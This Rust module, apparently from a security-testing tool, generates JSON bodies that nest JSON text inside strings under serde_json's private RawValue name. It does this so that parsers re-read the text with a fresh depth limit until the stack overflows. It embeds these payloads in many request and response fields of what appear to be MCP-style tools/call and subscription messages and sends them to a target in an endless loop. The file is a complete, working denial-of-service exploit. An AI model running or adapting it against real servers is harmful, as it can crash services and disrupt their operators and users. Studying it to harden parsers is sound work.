//! JSON that hides JSON in strings: a member of the name by which `serde_json` marks text that is JSON already. Whoever reads
//! such a value again reads the text, too, with a fresh bound on its depth, until the stack is used up.

use std::time::Duration;

use hyper::Version;
use tokio::time::sleep;

use super::Target;
use super::client::Client;
use super::message::Message;

const NAME: &str = "$serde_json::private::RawValue";
/// Levels of arrays in one text: with the object, as many as `serde_json` reads of a text.
const LEVELS: usize = 126;
/// Texts in texts: 56 of them are 7,000 levels in 47 KB.
const TEXTS: [usize; 4] = [1, 16, 56, 200];
const PAUSE: Duration = Duration::from_millis(200);

/// Sends all bodies in turn, again and again.
pub(super) async fn run(target: Target) {
    let messages: Vec<Message> = TEXTS.into_iter().flat_map(|texts| messages(&hidden(texts))).collect();
    let mut client = Client::new(target, Version::HTTP_11);
    for message in messages.iter().cycle() {
        client.send(message).await;
        sleep(PAUSE).await;
    }
}

/// The value, in every place that is read.
fn messages(value: &str) -> Vec<Message> {
    let call = |params: String| Message::call("greet", &params);
    vec![
        call(format!(r#""arguments":{value}"#)),
        call(format!(r#""arguments":{{"name":{value}}}"#)),
        call(format!(r#""inputResponses":{value}"#)),
        call(format!(r#""inputResponses":{{"q":{value}}}"#)),
        call(format!(r#""inputResponses":{{"q":[{value},{value}]}}"#)),
        call(format!(r#""requestState":{value}"#)),
        call(format!(r#""x":{value}"#)),
        Message::request_of("tools/call", Some("greet"), "", &format!(r#""progressToken":{value}"#)),
        Message::request_of("tools/call", Some("greet"), "", &format!(r#""x":{value}"#)),
        Message::request_of("subscriptions/listen", None, &format!(r#""notifications":{value}"#), ""),
        Message::request_of(
            "subscriptions/listen",
            None,
            &format!(r#""notifications":{{"resourceSubscriptions":{value}}}"#),
            "",
        ),
        Message::response(value),
        Message::response(&format!(r#"{{"action":"accept","content":{value}}}"#)),
    ]
}

/// An object that hides this many texts, one in the other.
fn hidden(texts: usize) -> String {
    (0..texts).fold("0".to_owned(), |inner, _| {
        let (open, close) = ("[".repeat(LEVELS), "]".repeat(LEVELS));
        object(&format!("{open}{inner}{close}"))
    })
}

/// The object that hides the text. `\u005c` instead of `\\` lets a quote grow by five bytes in every text, and not double.
fn object(text: &str) -> String {
    let text = text.replace('\\', r"\u005c").replace('"', r"\u0022");
    format!(r#"{{"{NAME}":"{text}"}}"#)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_third_size_is_seven_thousand_levels_in_47_kb() {
        let hidden = hidden(TEXTS[2]);
        assert!((40_000..48_000).contains(&hidden.len()), "{}", hidden.len());
        assert!(TEXTS[2] * (LEVELS + 1) > 7_000);
    }

    #[test]
    fn bodies_are_json_within_the_limit() {
        for message in TEXTS.into_iter().flat_map(|texts| messages(&hidden(texts))) {
            assert!(message.body.len() < 1_048_576, "{}", message.body.len());
            assert!(serde_json::from_slice::<&serde_json::value::RawValue>(&message.body).is_ok());
        }
    }

    #[test]
    fn every_text_hides_the_next() {
        let mut text = hidden(50);
        for _ in 0..50 {
            let value: serde_json::Map<String, serde_json::Value> = serde_json::from_str(&text).unwrap();
            let inner = value[NAME].as_str().unwrap();
            text = inner[LEVELS..inner.len() - LEVELS].to_owned();
        }
        assert_eq!(text, "0");
    }
}
